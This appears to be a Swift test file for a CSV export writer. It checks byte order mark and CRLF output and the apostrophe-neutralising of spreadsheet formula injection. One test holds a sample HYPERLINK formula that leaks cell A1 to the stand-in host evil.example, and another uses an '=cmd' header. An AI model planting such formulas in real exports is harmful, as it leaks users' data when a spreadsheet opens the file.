import Foundation
import Testing
import WaymarkCore
@testable import WaymarkFormats

/// The CSV every list downloads as: what Excel needs to read it right, and
/// nothing in it that a spreadsheet would run.
@Suite struct CSVTableWriterTests {
    let day = try! CalendarDate(iso: "2009-03-14")

    @Test func aTableIsUTF8AfterAByteOrderMarkWithCRLFLines() throws {
        let text = CSVTableWriter.document(SpreadsheetTable(
            title: "Caseload", columns: ["Record number", "Name", "Date of birth"],
            rows: [[.integer(12), .text("Zoë Ó Súilleabháin"), .date(day)], [.integer(13), .text("Smith, \"Jo\""), .empty]]))
        let bytes = Array(Data(text.utf8))
        #expect(Array(bytes.prefix(3)) == [0xEF, 0xBB, 0xBF], "a UTF-8 byte order mark, so Excel does not read it as Windows-1252")
        #expect(text.dropFirst() == "Record number,Name,Date of birth\r\n12,Zoë Ó Súilleabháin,2009-03-14\r\n13,\"Smith, \"\"Jo\"\"\",\r\n")
    }

    @Test func textThatWouldRunAsAFormulaIsWrittenAfterAnApostrophe() {
        let rows: [[SpreadsheetCell]] = [
            [.text("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")")], [.text("+44 7700 900123")], [.text("-1+1")], [.text("@SUM(A1)")],
            [.text("\tTabbed")], [.text("\r\nCarriage return first")], [.text("Ordinary = text")], [.integer(-3)], [.number(-2.5)],
        ]
        let lines = CSVTableWriter.lines(rows).components(separatedBy: "\r\n")
        #expect(lines[0] == "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\"")
        #expect(lines[1] == "'+44 7700 900123")
        #expect(lines[2] == "'-1+1")
        #expect(lines[3] == "'@SUM(A1)")
        #expect(lines[4] == "'\tTabbed")
        #expect(CSVTableWriter.lines([[.text("\r\nCarriage return first")]]).hasPrefix("\"'\r\n"), "a CRLF at the start is neutralised too")
        #expect(CSVTableWriter.lines([[.text("Ordinary = text")]]) == "Ordinary = text\r\n")
        #expect(CSVTableWriter.lines([[.integer(-3), .number(-2.5)]]) == "-3,-2.5\r\n", "numbers are numbers, not text to neutralise")
        #expect(CSVTableWriter.lines([[.percentage(100), .percentage(61.54), .percentage(0)]]) == "100.0,61.5,0.0\r\n", "percentages to one place, as the pages show them")
    }

    @Test func aColumnNameIsNeutralisedLikeAnyText() {
        #expect(CSVTableWriter.header(["=cmd"]) == "\u{FEFF}'=cmd\r\n")
    }
}
